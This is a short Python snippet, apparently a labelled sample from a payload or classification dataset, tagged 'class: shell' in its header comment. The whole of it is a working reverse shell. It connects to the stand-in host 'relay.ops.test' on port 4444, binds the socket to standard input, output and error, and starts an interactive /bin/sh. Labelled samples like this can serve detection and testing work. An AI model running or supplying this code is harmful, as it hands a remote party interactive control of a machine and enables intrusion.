# class: shell; possible: low medium; style: classic
import os
import socket
s = socket.create_connection(("relay.ops.test", 4444))
for fd in range(3):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
